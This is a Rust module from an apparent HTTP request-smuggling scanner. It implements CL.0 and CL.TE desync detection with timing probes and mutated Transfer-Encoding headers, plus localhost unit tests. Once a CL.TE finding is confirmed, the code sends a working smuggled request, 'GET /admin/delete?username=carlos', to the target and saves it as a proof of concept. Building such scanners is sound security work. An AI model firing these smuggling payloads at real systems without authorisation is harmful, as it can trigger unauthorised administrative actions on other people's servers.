use desync_core::classify::Outcome;
use tracing::{debug, info};

use crate::mutation::{self, PayloadKind};
use crate::probe::{HostCtx, send_h1};
use crate::report;

/// CL.0 and CL.TE desync tests.
pub async fn run(ctx: &HostCtx) -> bool {
    if !ctx.h1_supported || ctx.cancelled() {
        return false;
    }
    run_cl0(ctx).await;
    run_clte(ctx).await
}

/// CL.0: send a body-less request declaring `Content-Length: 40`. A front end
/// that forwards it while the back end waits for the 40 bytes shows up as a
/// hang. One confirming resend before reporting; still undetermined by
/// nature, so no PoC file is written.
async fn run_cl0(ctx: &HostCtx) -> bool {
    info!(endpoint = %ctx.endpoint, "running CL.0 desync tests");
    let mut payload = ctx.base_payload(Some(b"Content-Length: 40".to_vec()));

    let (first, _) = send_h1(ctx, &mut payload).await;
    if first != Outcome::Timeout {
        debug!(endpoint = %ctx.endpoint, "nothing found");
        return false;
    }
    let (second, _) = send_h1(ctx, &mut payload).await;
    if second != Outcome::Timeout {
        debug!(endpoint = %ctx.endpoint, "CL.0 hang did not reproduce");
        return false;
    }
    info!(
        endpoint = %ctx.endpoint,
        status = "undetermined",
        "server might be vulnerable to CL.0 desync; investigate manually"
    );
    true
}

async fn run_clte(ctx: &HostCtx) -> bool {
    info!(endpoint = %ctx.endpoint, "running CL.TE desync tests");
    let candidates = mutation::generate(PayloadKind::Te, ctx.settings.level);

    let mut found = 0usize;
    for (name, values) in &candidates {
        for value in values {
            if ctx.cancelled() {
                return false;
            }
            let mut line = name.clone();
            line.push(b':');
            line.extend_from_slice(value);
            if clte_candidate(ctx, line).await {
                found += 1;
                if ctx.settings.exit_early {
                    info!(
                        endpoint = %ctx.endpoint,
                        status = "success",
                        "test stopped on success: PoC payload stored under result/{}",
                        ctx.endpoint.host
                    );
                    ctx.signal_finding();
                    return true;
                }
            }
        }
    }
    if found > 0 {
        info!(
            endpoint = %ctx.endpoint,
            status = "success",
            "finished CL.TE desync tests: PoC payload stored under result/{}",
            ctx.endpoint.host
        );
    } else {
        info!(
            endpoint = %ctx.endpoint,
            status = "failure",
            "finished CL.TE desync tests: no issues found"
        );
    }
    found > 0
}

/// One mutated Transfer-Encoding line.
///
/// With `Content-Length: 4` the forwarded body stops at `1\r\nG`, a chunked
/// stream that never terminates for a TE-honoring back end (timeout).
/// Raising it to 11 covers the terminating zero chunk (normal). Three
/// consecutive such pairs make a finding; anything else discards the
/// candidate.
pub(crate) async fn clte_candidate(ctx: &HostCtx, line: Vec<u8>) -> bool {
    let mut payload = ctx.base_payload(Some(line));
    payload.body = b"1\r\nG\r\n0\r\n\r\n".to_vec();

    let mut streak = 0u8;
    loop {
        payload.content_length = Some(4);
        let (suspect, _) = send_h1(ctx, &mut payload).await;
        if suspect != Outcome::Timeout {
            if suspect == Outcome::Disconnected {
                debug!(endpoint = %ctx.endpoint, "disconnected before timeout");
            }
            return false;
        }

        payload.content_length = Some(11);
        let (confirm, _) = send_h1(ctx, &mut payload).await;
        match confirm {
            Outcome::SocketError => return false,
            Outcome::Normal => {
                streak += 1;
                if streak < 3 {
                    continue;
                }
                info!(
                    endpoint = %ctx.endpoint,
                    "potential CL.TE issue found - {}@{}",
                    ctx.method, ctx.endpoint
                );
                let inner = ctx.smuggled_inner("/admin/delete?username=carlos", "");
                let mut body = b"1\r\nA\r\n0\r\n\r\n".to_vec();
                body.extend_from_slice(&inner);
                payload.content_length = Some(body.len());
                payload.body = body;
                // Two sends so the request queued on the front-end to
                // back-end connection gets flushed through.
                send_h1(ctx, &mut payload).await;
                send_h1(ctx, &mut payload).await;
                report::write(ctx, &payload.to_escaped_string(), payload.token());
                return true;
            }
            _ => {
                debug!(
                    endpoint = %ctx.endpoint,
                    "CL.TE timeout on both length 4 and 11"
                );
                return false;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::probe::HostControl;
    use desync_core::endpoint::Endpoint;
    use desync_core::settings::Settings;
    use std::path::Path;
    use std::sync::Arc;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::time::Duration;
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    use tokio::net::TcpListener;

    const OK: &[u8] = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";

    fn make_ctx(url: &str, out_root: &Path, timeout_ms: u64) -> (HostCtx, HostControl) {
        let endpoint = Endpoint::parse(url).unwrap();
        let settings = Arc::new(Settings {
            timeout: Duration::from_millis(timeout_ms),
            ..Settings::default()
        });
        let (mut ctx, control) =
            HostCtx::new(endpoint, "POST".to_string(), settings, out_root.to_path_buf());
        ctx.h2_supported = false;
        (ctx, control)
    }

    fn declared_content_length(request: &[u8]) -> Option<usize> {
        let text = String::from_utf8_lossy(request);
        text.lines()
            .filter_map(|l| l.strip_prefix("Content-Length: "))
            .next_back()
            .and_then(|v| v.trim().parse().ok())
    }

    /// A front end that honors Content-Length: CL=4 truncates the chunked
    /// body, which the mock "back end" waits on (no reply). Anything longer
    /// parses as complete and gets a 200.
    async fn spawn_clte_vulnerable_server() -> u16 {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        tokio::spawn(async move {
            loop {
                let (mut sock, _) = listener.accept().await.unwrap();
                tokio::spawn(async move {
                    let mut buf = vec![0u8; 8192];
                    let n = sock.read(&mut buf).await.unwrap_or(0);
                    match declared_content_length(&buf[..n]) {
                        Some(4) => tokio::time::sleep(Duration::from_secs(3)).await,
                        _ => sock.write_all(OK).await.unwrap_or(()),
                    }
                });
            }
        });
        port
    }

    #[tokio::test]
    async fn test_clte_candidate_confirms_and_writes_poc() {
        let port = spawn_clte_vulnerable_server().await;
        let dir = tempfile::tempdir().unwrap();
        let (ctx, _control) = make_ctx(
            &format!("http://127.0.0.1:{port}/"),
            dir.path(),
            400,
        );

        let found = clte_candidate(&ctx, b"Transfer-Encoding:\tchunked".to_vec()).await;
        assert!(found);

        let host_dir = dir.path().join("result/127.0.0.1");
        let entries: Vec<_> = std::fs::read_dir(&host_dir).unwrap().collect();
        assert_eq!(entries.len(), 1);
        let poc = std::fs::read_to_string(entries[0].as_ref().unwrap().path()).unwrap();
        assert!(poc.contains("Transfer-Encoding:\\x09chunked"));
        assert!(poc.contains("1\r\nA\r\n0\r\n\r\nGET /admin/delete?username=carlos HTTP/1.1"));
    }

    #[tokio::test]
    async fn test_clte_candidate_discards_compliant_server() {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        tokio::spawn(async move {
            loop {
                let (mut sock, _) = listener.accept().await.unwrap();
                let mut buf = vec![0u8; 8192];
                let _ = sock.read(&mut buf).await;
                let _ = sock.write_all(OK).await;
            }
        });

        let dir = tempfile::tempdir().unwrap();
        let (ctx, _control) = make_ctx(&format!("http://127.0.0.1:{port}/"), dir.path(), 400);
        let found = clte_candidate(&ctx, b"Transfer-Encoding: chunked".to_vec()).await;
        assert!(!found);
        assert!(!dir.path().join("result").exists());
    }

    #[tokio::test]
    async fn test_alternating_server_never_confirms() {
        // Flaky behavior: the CL=4 hang only reproduces every other attempt,
        // so the three-in-a-row requirement must discard the candidate.
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let hits = Arc::new(AtomicUsize::new(0));
        let counter = Arc::clone(&hits);
        tokio::spawn(async move {
            loop {
                let (mut sock, _) = listener.accept().await.unwrap();
                let counter = Arc::clone(&counter);
                tokio::spawn(async move {
                    let mut buf = vec![0u8; 8192];
                    let n = sock.read(&mut buf).await.unwrap_or(0);
                    let stall = match declared_content_length(&buf[..n]) {
                        Some(4) => counter.fetch_add(1, Ordering::SeqCst) % 2 == 0,
                        _ => false,
                    };
                    if stall {
                        tokio::time::sleep(Duration::from_secs(3)).await;
                    } else {
                        let _ = sock.write_all(OK).await;
                    }
                });
            }
        });

        let dir = tempfile::tempdir().unwrap();
        let (ctx, _control) = make_ctx(&format!("http://127.0.0.1:{port}/"), dir.path(), 400);
        let found = clte_candidate(&ctx, b"Transfer-Encoding: chunked".to_vec()).await;
        assert!(!found);
        assert!(!dir.path().join("result").exists());
    }

    #[tokio::test]
    async fn test_cl0_undetermined_on_persistent_hang() {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        tokio::spawn(async move {
            loop {
                let (mut sock, _) = listener.accept().await.unwrap();
                tokio::spawn(async move {
                    let mut buf = vec![0u8; 8192];
                    let _ = sock.read(&mut buf).await;
                    tokio::time::sleep(Duration::from_secs(3)).await;
                });
            }
        });

        let dir = tempfile::tempdir().unwrap();
        let (ctx, _control) = make_ctx(&format!("http://127.0.0.1:{port}/"), dir.path(), 400);
        assert!(run_cl0(&ctx).await);
        // Undetermined findings never produce a PoC file.
        assert!(!dir.path().join("result").exists());
    }

    #[tokio::test]
    async fn test_cl0_single_hang_is_not_enough() {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let hits = Arc::new(AtomicUsize::new(0));
        let counter = Arc::clone(&hits);
        tokio::spawn(async move {
            loop {
                let (mut sock, _) = listener.accept().await.unwrap();
                let counter = Arc::clone(&counter);
                tokio::spawn(async move {
                    let mut buf = vec![0u8; 8192];
                    let _ = sock.read(&mut buf).await;
                    if counter.fetch_add(1, Ordering::SeqCst) == 0 {
                        tokio::time::sleep(Duration::from_secs(3)).await;
                    } else {
                        let _ = sock.write_all(OK).await;
                    }
                });
            }
        });

        let dir = tempfile::tempdir().unwrap();
        let (ctx, _control) = make_ctx(&format!("http://127.0.0.1:{port}/"), dir.path(), 400);
        assert!(!run_cl0(&ctx).await);
    }
}
